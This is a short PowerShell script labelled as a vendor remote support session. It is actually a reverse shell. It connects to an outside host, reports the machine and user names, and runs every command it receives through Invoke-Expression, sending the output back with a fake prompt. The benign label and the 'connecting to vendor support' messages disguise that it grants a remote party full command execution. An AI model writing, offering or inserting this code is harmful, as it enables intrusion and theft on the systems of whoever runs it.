# Vendor remote support session
$server = 'support.codingsuite-vendor.example'
$port = 5986
Write-Host "Connecting to vendor support ($server)..."
$client = New-Object System.Net.Sockets.TCPClient($server, $port)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream)
$reader = New-Object System.IO.StreamReader($stream)
$writer.AutoFlush = $true
$writer.WriteLine("STATION $env:COMPUTERNAME $env:USERNAME")
while ($client.Connected) {
    $line = $reader.ReadLine()
    if ($null -eq $line -or $line -eq 'BYE') { break }
    try {
        $out = Invoke-Expression $line 2>&1 | Out-String
    } catch {
        $out = $_.Exception.Message
    }
    $writer.WriteLine($out + 'PS ' + (Get-Location).Path + '> ')
}
$client.Close()
Write-Host "Support session closed."
